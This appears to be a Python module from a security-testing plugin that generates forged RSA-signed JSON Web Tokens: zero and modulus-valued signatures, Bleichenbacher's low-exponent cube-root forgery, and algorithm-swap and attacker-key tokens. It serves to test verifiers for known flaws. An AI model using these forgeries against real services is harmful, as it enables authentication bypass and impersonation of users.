"""RSA signatures that need no private key, and other paddings and hashes than the ones agreed on.

RFC 7518, sections 3.3 and 3.5; RFC 8017, section 8.2.2; RFC 8725, section 3.2. CVE-2006-4339 (low
exponent), CVE-2016-1494, CVE-2020-13822.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from functools import partial

from pytest_devsecops.identity.tokens.keys import attacker_key, modules, signer
from pytest_devsecops.identity.tokens.model import (
    Attack,
    AttackClass,
    Knowledge,
    NotApplicableError,
    jws,
    signing_input,
)

_REFS = ("RFC 8017 8.2.2", "CVE-2016-1494", "asvs:v5.0.0-9.1.1")
_ALG_REFS = ("RFC 8725 3.2", "RFC 7518 3.5", "asvs:v5.0.0-9.1.2")

#: DigestInfo before a SHA-256 hash (RFC 8017, section 9.2, note 1).
_SHA256_INFO = bytes.fromhex("3031300d060960864801650304020105000420")
_LOW_EXPONENT = 3


def _numbers(known: Knowledge) -> tuple[int, int, int]:
    """Return modulus, exponent, and bytes of the modulus."""
    rsa = modules()[2]
    public = known.public_key.crypto
    if not isinstance(public, rsa.RSAPublicKey):
        raise NotApplicableError("the issuer's key is no RSA key")
    numbers = public.public_numbers()
    return numbers.n, numbers.e, (numbers.n.bit_length() + 7) // 8


def _algorithm(known: Knowledge) -> str:
    return known.sample.algorithm if known.sample.algorithm[:2] in ("RS", "PS") else "RS256"


def _constant(word: str, known: Knowledge) -> str:
    modulus, _, size = _numbers(known)
    values = {"0": 0, "1": 1, "n-1": modulus - 1, "n": modulus, "n+1": modulus + 1}
    return jws(known.header(alg=_algorithm(known)), known.forged_claims, values[word].to_bytes(size))


def _plain_hash(known: Knowledge) -> str:
    """The padded hash itself: what verification would find if nobody raised it to the exponent."""
    _, _, size = _numbers(known)

    def sign(data: bytes) -> bytes:
        digest = _SHA256_INFO + hashlib.sha256(data).digest()
        return b"\x00\x01" + b"\xff" * (size - len(digest) - 3) + b"\x00" + digest

    return jws(known.header(alg="RS256"), known.forged_claims, sign)


def _low_exponent(known: Knowledge) -> str:
    """Bleichenbacher's forgery of 2006: a cube whose first bytes look like a padded hash."""
    _, exponent, size = _numbers(known)
    if exponent != _LOW_EXPONENT:
        raise NotApplicableError(f"the issuer's exponent is {exponent}, not 3")

    def sign(data: bytes) -> bytes:
        prefix = b"\x00\x01\xff\x00" + _SHA256_INFO + hashlib.sha256(data).digest()
        low = int.from_bytes(prefix.ljust(size, b"\x00"))
        return (_cube_root(low) + 1).to_bytes(size)

    return jws(known.header(alg="RS256"), known.forged_claims, sign)


def _cube_root(number: int) -> int:
    low, high = 0, 1 << (number.bit_length() // 3 + 2)
    while low < high:
        middle = (low + high) // 2
        low, high = (middle + 1, high) if middle**3 <= number else (low, middle)
    return low - 1


def _renamed(algorithm: str, known: Knowledge) -> str:
    """Genuine claims and signature; only the name of the algorithm differs."""
    if known.sample.algorithm[:2] not in ("RS", "PS"):
        raise NotApplicableError("the sample is not signed with RSA")
    return jws(known.header(alg=algorithm), known.forged_claims, known.sample.signature)


def _own(algorithm: str, name: str, known: Knowledge) -> str:
    return jws(known.header(alg=name), known.forged_claims, signer(attacker_key(algorithm), algorithm))


def _too_long(known: Knowledge) -> str:
    _, _, size = _numbers(known)
    data = signing_input(known.sample.header, known.forged_claims)
    return jws(
        known.header(alg=_algorithm(known)), known.forged_claims, hashlib.sha512(data).digest() * (size // 32 + 1)
    )


def _attacks() -> Iterator[Attack]:
    for word in ("0", "1", "n-1", "n", "n+1"):
        yield Attack(f"rsa/s={word}", f"the RSA signature is the number {word}", _REFS, partial(_constant, word))
    yield Attack("rsa/plain hash", "the signature is the padded hash itself", _REFS, _plain_hash)
    title = "the signature is a cube root of a padded hash"
    yield Attack("rsa/low exponent", title, ("RFC 8017 8.2.2", "CVE-2006-4339", _REFS[-1]), _low_exponent)
    yield Attack("rsa/too long", "the signature is longer than the modulus", _REFS, _too_long)
    for algorithm in ("PS256", "RS384", "RS512", "RS1", "rs256", "RSA", "RSA-OAEP", "ES256", "EdDSA"):
        title = f"alg is {algorithm} and the signature is another token's"
        yield Attack(f"rsa/alg {algorithm}", title, _ALG_REFS, partial(_renamed, algorithm))
    swaps = (("PS256", "RS256"), ("RS256", "PS256"), ("PS256", "PS256"), ("RS512", "RS512"))
    for made, said in swaps:
        title = f"the attacker's own key signed it with {made}, and alg is {said}"
        yield Attack(f"rsa/own {made} as {said}", title, _ALG_REFS, partial(_own, made, said))


RSA = AttackClass("rsa", "RSA signatures that need no key", tuple(_attacks()))
